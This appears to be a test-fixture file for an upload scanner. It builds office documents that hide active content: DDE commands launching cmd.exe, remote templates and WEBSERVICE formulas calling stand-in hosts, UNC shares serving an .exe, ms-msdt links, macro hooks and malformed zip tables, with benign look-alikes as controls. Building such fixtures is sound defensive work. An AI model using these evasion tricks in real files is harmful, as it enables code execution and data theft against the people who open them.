import { makeZip, type ZipFile } from '../../cms/gateway/uploads/make-zip.ts';
import { docxOf, fieldOf, odsOf, relationship, relationships, xlsxOf } from '../make-office.ts';
import type { Make } from './make.ts';

const openXml = 'application/vnd.openxmlformats-officedocument';
const types = (type: string): ZipFile => ({
  name: '[Content_Types].xml',
  content: `<?xml version="1.0"?><Types><Override PartName="/x" ContentType="${openXml}.${type}.main+xml"/></Types>`,
});

const letterAt = (name: string) =>
  makeZip([
    types('wordprocessingml.document'),
    { name, content: `<w:document>${fieldOf('DDEAUTO cmd.exe /k calc')}</w:document>` },
  ]);

const template = relationship(
  'attachedTemplate',
  'https://jahat.example/a.dotm',
  'TargetMode="External"',
);
const rels = 'word/_rels/settings.xml.rels';
const picture = 'word/media/gambar-satu-dua.png';
const withTemplate = docxOf(undefined, relationships(rels, template));

const named = (from: 'indexOf' | 'lastIndexOf'): Buffer => {
  const bytes = Buffer.from(withTemplate);
  bytes.write(picture.slice(0, rels.length), bytes[from](rels), 'latin1');
  return bytes;
};

/** The container without its last file in the table; the file itself stays. */
const unlisted = (): Buffer => {
  const end = withTemplate.length - 22;
  const last = withTemplate.lastIndexOf(rels) - 46;
  const record = Buffer.from(withTemplate.subarray(end));
  for (const at of [8, 10]) record.writeUInt16LE(record.readUInt16LE(at) - 1, at);
  record.writeUInt32LE(last - record.readUInt32LE(16), 12);
  return Buffer.concat([withTemplate.subarray(0, last), record]);
};

const cell = (attributes: string) => `<table:table-cell ${attributes}/>`;

/** Office files that hide what they do: parts under other names, formulas in other spellings, containers read in two ways. */
export const hiddenOfficeFiles: Readonly<Record<string, Make>> = {
  'docx command in a part called a text': () => letterAt('word/document.txt'),
  'docx command in another folder': () => letterAt('dokumen/surat.xml'),
  'docx template in capital letters': () =>
    docxOf(undefined, relationships(rels.replace('.rels', '.RELS'), template)),
  'docx link of a field to a program': () => docxOf(fieldOf('HYPERLINK &quot;ms-msdt:/id x&quot;')),
  'docx link of a field to a share': () =>
    docxOf(fieldOf('HYPERLINK \\o &quot;Buka&quot; &quot;\\\\203.0.113.9\\a.exe&quot;')),
  'docx field that brings in a file by its old name': () =>
    docxOf(fieldOf('INCLUDE &quot;https://jahat.example/&quot;')),
  'docx menus of its own': () =>
    docxOf(undefined, {
      name: 'lain/menu.xml',
      content: '<customUI onLoad="https://jahat.example/a.dotm!b"/>',
    }),
  'docx page inside that calls itself a picture': () =>
    docxOf(undefined, { name: 'word/media/image1.png', content: 'MIME-Version: 1.0\n\n<html>' }),
  'docx shortcut inside': () =>
    docxOf(undefined, { name: 'word/media/a.url', content: '[InternetShortcut]' }),
  'docx whose table names another file': () => named('lastIndexOf'),
  'docx whose file has another name than in the table': () => named('indexOf'),
  'docx with a file that no table names': unlisted,
  'xlsx command with its quotes in entities': () => xlsxOf('cmd|&apos;/c calc&apos;!A0'),
  'xlsx formula that sends, by a number for a letter': () =>
    xlsxOf('&#87;EBSERVICE(&quot;https://jahat.example/&quot;)'),
  'xlsx formula in CDATA': () => xlsxOf('<![CDATA[WEBSERVICE("https://jahat.example/")]]>'),
  'xlsx formula with a comment in it': () => xlsxOf('WEB<!-- -->SERVICE(A1)'),
  'xlsx formula that fetches a picture': () =>
    xlsxOf('_xlfn.IMAGE(&quot;https://jahat.example/1.png&quot;)'),
  'xlsx formula that starts a server': () => xlsxOf('RTD(&quot;a.b&quot;,,&quot;c&quot;)'),
  'xlsx link of a formula to a share': () =>
    xlsxOf('HYPERLINK(&quot;\\\\203.0.113.9\\a&quot;,&quot;Buka&quot;)'),
  'xlsx cell of a table on a share': () => xlsxOf("'\\\\203.0.113.9\\[a.xlsx]S'!A1"),
  'xlsx formula in another folder': () =>
    makeZip([
      types('spreadsheetml.sheet'),
      { name: 'tabel/satu.xml', content: '<c><f>WEBSERVICE(A1)</f></c>' },
    ]),
  'xlsx command in a part called otherwise': () =>
    xlsxOf(undefined, [
      {
        name: 'xl/lain/a.xml',
        content: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      },
    ]),
  'xlsx other table by its kind': () =>
    xlsxOf(undefined, [
      relationships('xl/_rels/workbook.xml.rels', relationship('externalLink', 'lain/a.xml')),
    ]),
  'xlsx data source called otherwise': () =>
    xlsxOf(undefined, [
      { name: 'xl/a.xml', content: '<connections><connection id="1"/></connections>' },
    ]),
  'ods formula that has a name': () =>
    odsOf('<table:named-expression table:expression="of:=WEBSERVICE(&quot;https://x/&quot;)"/>'),
  'ods condition that sends': () => odsOf(cell('table:condition="of:=WEBSERVICE([.A1])"')),
  'ods link to a program': () => odsOf('<text:a xlink:href="ms-msdt:/id">Buka</text:a>'),
  'ods form that sends': () =>
    odsOf('<form:form form:method="post" xlink:href="https://jahat.example/"/>'),
  'ods keys that start a macro': () =>
    odsOf('', {
      name: 'Configurations2/accelerator/current.xml',
      content: '<accel:item xlink:href="vnd.sun.star.script:a"/>',
    }),
  'ods macros of a chart inside': () =>
    odsOf('', { name: 'Object 1/Basic/Standard/a.xml', content: '<script:module/>' }),
  'ods table of a database': () =>
    odsOf('<table:database-source-sql table:sql-statement="select 1"/>'),

  'docx with a tip on its link': () =>
    docxOf(fieldOf('HYPERLINK &quot;https://palukota.go.id/&quot; \\o &quot;C: portal kota&quot;')),
  'docx with a link to its own chapter': () =>
    docxOf(fieldOf('HYPERLINK \\l &quot;_Toc1&quot; \\h')),
  'docx with a drawing and a fraction': () =>
    docxOf('<m:oMath><m:f><m:num><m:r><m:t>IMAGE (1)</m:t></m:r></m:num></m:f></m:oMath>', {
      name: 'word/media/image1.svg',
      content: '<svg xmlns="http://www.w3.org/2000/svg"/>',
    }),
  'xlsx with formulas of every day': () =>
    xlsxOf("IF(A1&lt;&gt;&quot;|&quot;,VLOOKUP(A1,'Data 2026'!A:B,2,0),&quot;-&quot;)"),
  'ods with a form and a rule': () =>
    odsOf(
      `<form:form xlink:href="" xlink:type="simple"/>${cell('table:condition="of:cell-content()&gt;0"')}`,
      { name: 'Configurations2/accelerator/current.xml', content: '' },
    ),
};
